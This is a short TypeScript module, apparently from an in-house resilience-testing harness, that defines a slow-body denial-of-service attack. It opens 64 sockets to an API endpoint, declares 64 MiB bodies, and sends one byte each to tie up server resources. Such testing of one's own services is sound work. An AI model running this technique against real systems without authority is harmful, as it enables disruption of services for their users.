import type { Attack } from '../attack.js'
import { holdSockets } from '../hold-sockets.js'

const DECLARED_BYTES = 64 * 1024 * 1024

export const idleBodies: Attack = {
  name: 'idle-bodies',
  describe: '64 sockets that declare 64 MiB each and send one byte',
  start(target, outcomes) {
    const head = [
      'POST /v1/match/evaluate HTTP/1.1',
      `Host: ${new URL(target.baseUrl).host}`,
      `Authorization: Bearer ${target.apiKey}`,
      'Content-Type: application/json',
      `Content-Length: ${DECLARED_BYTES}`,
    ]
    return holdSockets(target, outcomes, {
      count: 64,
      openPerSecond: target.requestsPerMinute['match.evaluate'] / 60,
      opening: `${head.join('\r\n')}\r\n\r\n{`,
    })
  },
}
